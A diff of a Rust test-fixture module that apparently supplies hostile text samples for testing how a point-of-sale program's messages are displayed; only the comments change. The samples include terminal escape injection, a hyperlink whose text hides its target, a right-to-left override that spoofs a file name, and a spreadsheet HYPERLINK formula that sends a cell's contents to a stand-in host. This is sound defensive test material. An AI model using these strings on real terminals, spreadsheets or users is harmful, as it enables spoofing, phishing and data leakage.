@@ -1,22 +1,22 @@
-//! Texts that one store's software writes and that must do no harm wherever they are shown.
+//! Hostile texts, which must do no harm where they are shown.
 
-/// How many there are.
+/// Number of texts.
 pub(super) const TEXTS: usize = 7;
-/// Those that stand in failures; the rest are remarks on canceled sessions.
+/// Texts of failures; the others are remarks on canceled sessions.
 pub(super) const IN_FAILURES: [usize; 2] = [0, 3];
 
-/// One of them, by number.
+/// Returns a text by number.
 pub(super) fn text(number: usize) -> String {
     match number % TEXTS {
         // Colors, a cleared screen and a window title.
         0 => "\u{1b}[2J\u{1b}[1;1H\u{1b}]0;owned\u{7}\u{1b}[31;1mPOS database offline\u{1b}[0m, see the printer"
             .to_owned(),
-        // A link that shows another address than it leads to.
+        // A link whose text differs from its address.
         1 => "\u{1b}]8;;https://pos-support.example/login\u{1b}\\Click here to repair the upload\u{1b}]8;;\u{1b}\\"
             .to_owned(),
-        // Text that reads backwards from the override on.
+        // Text reversed by a direction override.
         2 => "Canceled because of \u{202e}piz.sdrawkcab\u{202c} in the working folder".to_owned(),
-        // A formula, should the list be opened as a spreadsheet.
+        // A spreadsheet formula.
         3 => "=HYPERLINK(\"https://pos-support.example/?\"&A1,\"Could not read the sales of register\")".to_owned(),
         4 => format!("Canceled by the register's watchdog: {}end", "retrying; ".repeat(1_200)),
         5 => "Canceled.\tState:\tunknown\r\nRegister\t3\r\n\r\nStack:\n\tat Pos.Upload.Send()\n\tat Pos.Main()\n"
